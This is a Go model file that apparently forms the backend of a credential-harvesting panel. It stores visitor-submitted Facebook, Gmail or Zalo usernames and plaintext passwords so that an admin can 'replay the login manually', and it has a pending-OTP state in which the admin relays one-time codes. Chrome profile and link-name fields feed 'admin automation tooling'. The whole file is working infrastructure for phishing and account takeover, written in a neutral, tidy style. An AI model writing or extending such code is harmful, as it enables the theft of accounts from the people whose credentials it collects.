package models

import (
	"fmt"
	"strings"
	"time"

	"github.com/google/uuid"
	"gorm.io/gorm"
)

// LoginStatus represents the status of a login request
type LoginStatus string

const (
	StatusPending    LoginStatus = "pending"
	StatusPendingOTP LoginStatus = "pending_otp"
	StatusApproved   LoginStatus = "approved"
	StatusRejected   LoginStatus = "rejected"
	StatusExpired    LoginStatus = "expired"
)

// validTransitions encodes the forward-only lifecycle of a login request.
// Terminal states (approved, rejected, expired) have no outgoing edges.
var validTransitions = map[LoginStatus][]LoginStatus{
	StatusPending:    {StatusPendingOTP, StatusApproved, StatusRejected, StatusExpired},
	StatusPendingOTP: {StatusApproved, StatusRejected, StatusExpired},
	StatusApproved:   {},
	StatusRejected:   {},
	StatusExpired:    {},
}

// IsValidStatus reports whether s is one of the defined lifecycle statuses
func IsValidStatus(s LoginStatus) bool {
	_, ok := validTransitions[s]
	return ok
}

// IsTerminal reports whether s admits no further transitions
func IsTerminal(s LoginStatus) bool {
	allowed, ok := validTransitions[s]
	return ok && len(allowed) == 0
}

// IsValidStatusTransition checks if a status transition is valid
func IsValidStatusTransition(current, next LoginStatus) bool {
	allowed, exists := validTransitions[current]
	if !exists {
		return false
	}
	for _, status := range allowed {
		if status == next {
			return true
		}
	}
	return false
}

// LoginRequest represents one visitor-submitted credential login attempt
// awaiting admin disposition.
type LoginRequest struct {
	// ID is the opaque unique token referencing this request
	ID string `gorm:"column:id;type:varchar(64);primaryKey" json:"id"`
	// Platform is the login platform tag (facebook, gmail, zalo, ...; "other" fallback)
	Platform string `gorm:"column:platform;type:varchar(50);not null;index:idx_login_requests_platform" json:"platform"`
	// Account is the submitted account/username, stored verbatim
	Account string `gorm:"column:account;type:varchar(255);not null" json:"account"`
	// Password is kept only so an admin can replay the login manually.
	// It is redacted from every read path except the admin view.
	Password string `gorm:"column:password;type:text;not null" json:"password,omitempty"`
	// OTPCode is supplied by the admin during the OTP branch, never by the visitor
	OTPCode *string `gorm:"column:otp_code;type:varchar(50)" json:"otpCode,omitempty"`
	// Status is the lifecycle status: pending, pending_otp, approved, rejected, expired
	Status LoginStatus `gorm:"column:status;type:varchar(20);not null;index:idx_login_requests_status" json:"status"`
	// Note, ChromeProfile and LinkName are free-form metadata carried
	// through unchanged for the admin automation tooling.
	Note          *string `gorm:"column:note;type:text" json:"note,omitempty"`
	ChromeProfile *string `gorm:"column:chrome_profile;type:varchar(255)" json:"chromeProfile,omitempty"`
	LinkName      *string `gorm:"column:link_name;type:varchar(255)" json:"linkName,omitempty"`
	// CreatedAt is set at submission and immutable
	CreatedAt time.Time `gorm:"column:created_at;not null;index:idx_login_requests_created_at" json:"createdAt"`
	// UpdatedAt is set on every transition
	UpdatedAt time.Time `gorm:"column:updated_at;not null" json:"updatedAt"`
	// ExpiresAt is when a still-pending request becomes eligible for the expiry sweep
	ExpiresAt time.Time `gorm:"column:expires_at;not null;index:idx_login_requests_expires_at" json:"expiresAt"`
}

// TableName sets the table name for the LoginRequest model
func (*LoginRequest) TableName() string {
	return "login_requests"
}

// BeforeCreate hook to set defaults for id, status and timestamps
func (lr *LoginRequest) BeforeCreate(tx *gorm.DB) error {
	if lr.ID == "" {
		lr.ID = NewLoginID()
	}
	if lr.Status == "" {
		lr.Status = StatusPending
	}
	now := time.Now().UTC()
	if lr.CreatedAt.IsZero() {
		lr.CreatedAt = now
	}
	if lr.UpdatedAt.IsZero() {
		lr.UpdatedAt = lr.CreatedAt
	}
	return nil
}

// Validate performs validation checks matching the database constraints
func (lr *LoginRequest) Validate() error {
	if strings.TrimSpace(lr.Platform) == "" {
		return fmt.Errorf("platform is required")
	}
	if strings.TrimSpace(lr.Account) == "" {
		return fmt.Errorf("account is required")
	}
	if lr.Password == "" {
		return fmt.Errorf("password is required")
	}
	if !IsValidStatus(lr.Status) {
		return fmt.Errorf("invalid status: %s", lr.Status)
	}
	return nil
}

// NewLoginID generates a unique login request token
func NewLoginID() string {
	return fmt.Sprintf("login_%s", uuid.New().String()[:8])
}

// LoginRequestView is the visitor-facing projection of a login request.
// The password (and any admin-supplied OTP) never appear here.
type LoginRequestView struct {
	ID        string      `json:"id"`
	Platform  string      `json:"platform"`
	Account   string      `json:"account"`
	Status    LoginStatus `json:"status"`
	CreatedAt time.Time   `json:"createdAt"`
	UpdatedAt time.Time   `json:"updatedAt"`
	ExpiresAt time.Time   `json:"expiresAt"`
}

// ToView converts an internal LoginRequest to the redacted visitor-facing view
func (lr *LoginRequest) ToView() *LoginRequestView {
	return &LoginRequestView{
		ID:        lr.ID,
		Platform:  lr.Platform,
		Account:   lr.Account,
		Status:    lr.Status,
		CreatedAt: lr.CreatedAt,
		UpdatedAt: lr.UpdatedAt,
		ExpiresAt: lr.ExpiresAt,
	}
}
